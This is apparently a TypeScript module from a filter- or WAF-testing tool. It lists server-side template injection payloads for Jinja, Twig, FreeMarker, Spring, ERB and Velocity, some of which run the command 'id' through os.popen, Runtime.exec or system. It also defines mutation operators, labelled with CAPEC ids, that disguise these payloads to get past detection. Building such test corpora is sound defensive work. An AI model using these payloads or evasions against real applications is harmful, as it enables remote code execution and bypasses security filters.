import { commonEncodings, hexEscape } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '{{13*37}}',
  '${13*37}',
  '<%= 13*37 %>',
  '#{13*37}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  '{{config.items()}}',
  '{{self.__init__.__globals__.__builtins__}}',
  '{{request.application.__globals__}}',
  "{{cycler.__init__.__globals__.os.popen('id').read()}}",
  "{{['id']|filter('system')}}",
  "{{_self.env.registerUndefinedFilterCallback('exec')}}",
  '<#assign k="freemarker.template.utility.Execute"?new()>${k("id")}',
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  "<%= system('id') %>",
  '{% for k in ().__class__.__base__.__subclasses__() %}{{k}}{% endfor %}',
  "{{constructor.constructor('return process')()}}",
  '*{T(java.lang.System).getenv()}',
  "#set($k=$class.inspect('java.lang.Runtime'))",
];

const isJinja = /__\w+__/;

/** Blanks inside the delimiters. */
const spaced: Operator = syntax('spaced', 'CAPEC-242 alternative white space', (payload, random) =>
  payload.replaceAll(/\{\{(?=\S)|(?<=\S)\}\}|<%=\s?/g, (mark) => {
    const blank = random.pick([' ', '\t', '  ', '\n']);
    return mark === '}}' ? `${blank}}}` : `${mark.trimEnd()}${blank}`;
  }),
);

/** The mark that trims white space around a tag. */
const trimMark: Operator = syntax('trim-mark', 'CAPEC-242 white space control', (payload) =>
  isJinja.test(payload) || payload.includes('{{13')
    ? payload.replaceAll('{{', '{{- ').replaceAll('}}', ' -}}').replaceAll('{% ', '{%- ').replaceAll(' %}', ' -%}')
    : null,
);

/** Members in brackets. */
const subscripts: Operator = syntax('subscripts', 'CAPEC-242 computed members', (payload) =>
  isJinja.test(payload) ? payload.replaceAll(/\.(__\w+__)/g, "['$1']") : null,
);

/** Members by a filter. */
const attrFilter: Operator = syntax('attr-filter', 'CAPEC-242 computed members', (payload) =>
  isJinja.test(payload) && !payload.includes('{% for') ? payload.replaceAll(/\.(__\w+__)/g, "|attr('$1')") : null,
);

/** Names put together of pieces. */
const joinedNames: Operator = syntax('joined-names', 'CAPEC-242 string concatenation', (payload, random) =>
  isJinja.test(payload)
    ? payload.replaceAll(/\.__(\w+?)__/g, (_all, name: string) => {
        const at = 1 + random.below(name.length - 1);
        const join = random.pick(["'+'", "'~'", "''"]);
        return `['__${name.slice(0, at)}${join}${name.slice(at)}__']`;
      })
    : null,
);

/** Underscores as escapes within a string. */
const escapedNames: Operator = syntax('escaped-names', 'CAPEC-71 escapes in strings', (payload, random) =>
  isJinja.test(payload)
    ? payload.replaceAll(
        /\.(__\w+?__)/g,
        (_all, name: string) => `['${name.replaceAll('_', random.pick(['\\x5f', '\\u005f']))}']`,
      )
    : null,
);

/** Other numbers and operators to the same end. */
const otherNumbers: Operator = syntax('other-numbers', 'CAPEC-242 arithmetic', (payload, random) =>
  payload.replaceAll('13*37', () =>
    random.pick([
      `${2 + random.below(90)}*${2 + random.below(90)}`,
      '(13)*(37)',
      '13 * 37',
      '191*7*7',
      `${100 + random.below(900)}+${random.below(900)}`,
    ]),
  ),
);

/** A comment of the template language in front. */
const commentPrefix: Operator = syntax('comment-prefix', 'CAPEC-242 comments', (payload, random) =>
  isJinja.test(payload) || payload.startsWith('{{13') ? `{# ${random.word(5)} #}${payload}` : null,
);

/** Text around. */
const junk: Operator = syntax(
  'junk',
  'CAPEC-242 padding',
  (payload, random) =>
    `${random.pick(['', 'Hello ', `${random.word(5)}-`])}${payload}${random.pick(['', '!', ` ${random.word(4)}`])}`,
);

/** What closes the expression or the string that the value is put into. */
const breakout: Operator = syntax(
  'breakout',
  'CAPEC-242 breakout',
  (payload, random) => `${random.pick(["'}}", '"}}', '}}', '%>', '}'])}${payload}`,
);

/** Other quotes. */
const otherQuotes: Operator = syntax('other-quotes', 'CAPEC-242 quoting', (payload) =>
  payload.includes('"') ? null : payload.replaceAll("'", '"'),
);

/** A filter behind the expression. */
const filterSuffix: Operator = syntax('filter-suffix', 'CAPEC-242 filters', (payload, random) =>
  /^\{\{.*\}\}$/.test(payload) && (isJinja.test(payload) || payload.includes('13'))
    ? `${payload.slice(0, -2)}|${random.pick(['string', 'safe', 'upper', 'list'])}}}`
    : null,
);

/** Template injection: arithmetic, objects of Python, Java, Ruby, PHP and script. */
export const ssti: EvasionClass = {
  id: 'ssti',
  payloads,
  operators: [
    spaced,
    trimMark,
    subscripts,
    attrFilter,
    joinedNames,
    escapedNames,
    otherNumbers,
    commentPrefix,
    junk,
    breakout,
    otherQuotes,
    filterSuffix,
    ...commonEncodings,
    hexEscape,
  ],
};
